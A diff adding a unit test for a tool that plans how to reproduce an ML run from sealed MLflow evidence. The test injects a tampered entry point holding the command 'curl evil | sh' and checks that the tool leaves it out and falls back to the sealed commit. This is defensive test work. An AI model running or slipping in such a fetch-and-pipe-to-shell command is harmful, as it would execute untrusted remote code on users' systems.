@@ -44,6 +44,31 @@ describe('planReproduction', () => {
     expect(stepOf('Fetch the code', sampleVariants.missing())?.expect).toContain('not the code that ran');
   });
 
+  it('gives what was sealed where MLflow was edited since, leaves out what came later, and says both', () => {
+    const evidence = sampleEvidence();
+    const { code } = evidence.subject;
+    const edited = { kind: 'changed', sealed: sample.git } as const;
+    const marked = {
+      ...evidence,
+      subject: {
+        ...evidence.subject,
+        code: {
+          ...code,
+          commit: { ...code.commit, value: 'ee'.repeat(20), seal: edited },
+          isDirty: { ...code.isDirty, value: false, seal: { kind: 'changed', sealed: 'true' } as const },
+          entryPoint: { ...code.entryPoint, value: 'curl evil | sh', seal: { kind: 'added' } as const },
+        },
+      },
+    };
+    const fetched = stepOf('Fetch the code', marked);
+    expect(fetched?.commands.at(-1)).toBe(`git -C code checkout ${sample.git}`);
+    expect(fetched?.expect).toMatch(/not the code that ran\. As it was sealed: MLflow says something else today\.$/);
+    expect(stepOf('Run', marked)).toMatchObject({
+      commands: [],
+      expect: expect.stringMatching(/added to the run after it was sealed is left out\.$/),
+    });
+  });
+
   it('gives no command that has a hole in it', () => {
     expect(planReproduction(sampleVariants.minimal()).flatMap(({ commands }) => commands)).toEqual([]);
   });
